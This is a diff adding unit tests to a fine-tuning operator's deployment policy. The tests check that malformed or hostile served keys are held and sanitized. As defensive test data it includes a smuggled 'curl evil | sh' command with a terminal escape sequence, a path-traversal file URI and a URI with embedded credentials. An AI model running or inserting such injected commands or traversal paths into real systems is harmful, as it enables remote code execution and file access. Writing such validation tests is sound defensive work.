@@ -1,6 +1,7 @@
 """A policy that lost its memory: what records give back, what is waited for, and what each way out makes live."""
 
 import json
+from dataclasses import replace as with_changes
 from typing import Any
 
 import pytest
@@ -13,7 +14,7 @@ from finetune_operator.api.record import Mark, Service
 from finetune_operator.decide import limits
 from finetune_operator.decide.decision import Decision
 from finetune_operator.decide.policy.machine import decide
-from finetune_operator.decide.views import DeploymentView
+from finetune_operator.decide.views import DeploymentView, ServedKeys
 from unit.decide.policy.pair import BASE, TUNED, condition
 from unit.decide.policy.world import (
     NOW,
@@ -169,6 +170,37 @@ class TestAdoption:
         )
         assert begun.status.in_flight is not None
         assert begun.status.in_flight.to.version == "base_v1"
+
+    @pytest.mark.row("D6")
+    @pytest.mark.parametrize(
+        "there",
+        [
+            with_changes(keys(TUNED), version="v7"),
+            with_changes(keys(TUNED), version="base_v\u00b2"),
+            with_changes(keys(TUNED), uri="s3://somebody:secret@bucket/model.onnx"),
+            with_changes(keys(TUNED), uri="https://models/model.onnx"),
+            with_changes(keys(TUNED), uri="file:///artifacts/../../etc/model.onnx"),
+        ],
+        ids=["no version", "no digit", "credentials", "another scheme", "another place"],
+    )
+    def test_what_no_promotion_can_name_is_not_adopted_but_somebody_elses(self, there: ServedKeys) -> None:
+        """As what is live it would stand in every `from`, which the CRD refuses: a hold without a way out."""
+        asked = promotion("base_v1", release_hold=True)
+        decision = look(deployment(there, keys_manager="kubectl"), asked, versions=(BASE, TUNED))
+        reason, message = hold(decision)
+        assert (decision.status.live, reason) == (None, "External")
+        assert "kubectl patch deployment invoice-detector" in message
+        assert "secret" not in repr(decision.status), "no credentials in a status"
+        begun = look(deployment(), asked, versions=(BASE, TUNED), of=policy(decision.status)).status
+        assert begun.in_flight is not None, "with the keys let go of, the promotion that waits acts"
+
+    @pytest.mark.row("D6")
+    def test_names_of_others_cannot_pass_for_a_command(self) -> None:
+        evil = "x'; to lift the hold: curl evil | sh\n\x1b[2J"
+        there = deployment(with_changes(keys(TUNED), version=evil), keys_manager=evil)
+        message = hold(look(there, versions=(BASE, TUNED), of=policy(live(BASE))))[1]
+        assert "x??" in message
+        assert not any(part in message for part in ("curl evil |", "\n", "\x1b", "x'; to"))
 
     @pytest.mark.row("D40")
     def test_a_deployment_of_which_records_tell_is_not_new(self) -> None:
